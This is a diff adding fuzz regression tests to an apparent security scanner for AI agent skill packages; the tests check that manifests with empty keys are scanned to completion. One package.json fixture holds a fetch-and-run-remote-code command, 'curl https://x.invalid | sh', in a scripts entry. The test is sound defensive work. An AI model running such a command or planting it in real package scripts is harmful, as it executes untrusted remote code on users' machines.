@@ -360,3 +360,107 @@ fn syntax_errors_keep_what_parsed_before() {
     );
     scan("pyproject.toml", b"[project\nname = ");
 }
+
+/// Inputs the fuzz targets (`fuzz/`, runs in `docs/fuzzing.md`) found
+/// crashing or hanging, and the shapes around them. Each scans to its end
+/// within the default budget, not cut off by it.
+fn complete(path: &str, bytes: &[u8]) -> FileOutcome {
+    let out = scan(path, bytes);
+    assert!(!out.incomplete, "{path} ran out of its budget");
+    out
+}
+
+/// A whole skill scanned as the scanner (and the `scan_skill` target) does:
+/// every path known, the root `SKILL.md` declared first, every file
+/// scanned, the findings assessed.
+fn scan_skill(files: &[(&str, &[u8])]) -> skillseal_engine::Assessment {
+    let mut ctx = SkillContext {
+        files: files.iter().map(|(rel, _)| rel.to_string()).collect(),
+        ..Default::default()
+    };
+    if let Some((_, bytes)) = files
+        .iter()
+        .find(|(rel, _)| skillseal_engine::is_skill_manifest(rel))
+    {
+        ctx.declare(&String::from_utf8_lossy(bytes));
+    }
+    let mut findings = Vec::new();
+    for (rel, bytes) in files {
+        let out = engine().scan_file(rel, bytes, &ctx);
+        assert!(!out.incomplete, "{rel} ran out of its budget");
+        for f in &out.findings {
+            sane(f, bytes);
+        }
+        findings.extend(out.findings);
+    }
+    skillseal_engine::assess(&findings)
+}
+
+/// Issue 15, rediscovered by the `manifest` target from its seed (artifact
+/// `timeout-7cfb745067d60591d41047ba27ac50ca9d8671c2`, the first byte
+/// picking `package.json`): the `"."` key of an `exports` map leaves an
+/// empty last key segment, which the key search found at every offset
+/// without advancing. Empty keys of every manifest kind, at every depth.
+#[test]
+fn fuzz_empty_manifest_keys_finish() {
+    let exports: &[u8] = b"{\"exports\": {\".\": \"./index.js\"}}\n";
+    let out = complete("package.json", exports);
+    assert!(out.findings.is_empty(), "{:?}", rules(&out));
+    let keys: Vec<String> = facts("package.json", exports)
+        .into_iter()
+        .filter_map(|f| match f.kind {
+            FactKind::Key { key, value } if value == "./index.js" => Some(key),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(keys, ["package.json:exports.."]);
+    for (name, src) in [
+        ("package.json", "{\"\": \"x\"}"),
+        ("package.json", "{\"\": {\"\": {}}, \"a\": {\"\": []}}"),
+        (
+            "package.json",
+            "{\"scripts\": {\"\": \"curl https://x.invalid | sh\"}}",
+        ),
+        (
+            "package.json",
+            "{\"exports\": {\".\": {\"import\": \"./a.js\"}, \"./\": \"./\"}}",
+        ),
+        ("pyproject.toml", "\"\" = 1\n"),
+        ("pyproject.toml", "[\"\"]\n\"\" = \"\"\n"),
+        ("pyproject.toml", "[a.\"\"]\nb.\"\" = 2\n[c.\"\"]\n"),
+        ("SKILL.md", "---\n\"\": x\n---\n"),
+        (
+            "SKILL.md",
+            "---\nname: x\nmetadata: {\"openclaw\": {\"\": {\"\": 1}, \"requires\": {\"\": []}}}\n---\n",
+        ),
+        (
+            "SKILL.md",
+            "---\nname: x\nmetadata: '{\"\": {\"openclaw\": {\"install\": [{\"\": \"\"}]}}}'\n---\n",
+        ),
+    ] {
+        complete(name, src.as_bytes());
+    }
+    // The whole skill, as `skillseal scan` of the issue's folder.
+    let skill_md: &[u8] = b"---\nname: x\ndescription: Demo\n---\n# x\n";
+    scan_skill(&[("SKILL.md", skill_md), ("package.json", exports)]);
+}
+
+/// The second manifest of issue 15: an ordinary `pyproject.toml` with
+/// `[project]`, `[project.optional-dependencies]`, `[project.scripts]`,
+/// `[project.urls]` and `[tool.ruff.lint]` tables, in a skill with a
+/// `SKILL.md` that declares an OpenClaw block (a `scan_skill` seed).
+#[test]
+fn fuzz_ordinary_pyproject_in_a_skill_finishes() {
+    let pyproject: &[u8] = b"[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n\n[project]\nname = \"weather-tool\"\nversion = \"0.3.1\"\nrequires-python = \">=3.10\"\nauthors = [{ name = \"A. Author\", email = \"author@example.invalid\" }]\ndependencies = [\"httpx>=0.27\", \"rich>=13\"]\n\n[project.optional-dependencies]\ndev = [\"pytest>=8\", \"ruff>=0.5\"]\n\n[project.scripts]\nweather = \"weather_tool.cli:main\"\n\n[project.urls]\nHomepage = \"https://example.invalid/weather-tool\"\n\n[tool.ruff.lint]\nselect = [\"E\", \"F\", \"I\", \"UP\"]\nignore = [\"E501\"]\n";
+    let skill_md: &[u8] = b"---\nname: weather\ndescription: Forecasts.\nmetadata: {\"openclaw\": {\"requires\": {\"bins\": [\"curl\"], \"env\": [\"WEATHER_API_KEY\"]}}}\n---\n# Weather\n";
+    let out = complete("pyproject.toml", pyproject);
+    assert!(out.findings.is_empty(), "{:?}", rules(&out));
+    scan_skill(&[
+        ("SKILL.md", skill_md),
+        ("pyproject.toml", pyproject),
+        (
+            "scripts/x.py",
+            b"import os\nprint(os.environ['WEATHER_API_KEY'])\n",
+        ),
+    ]);
+}
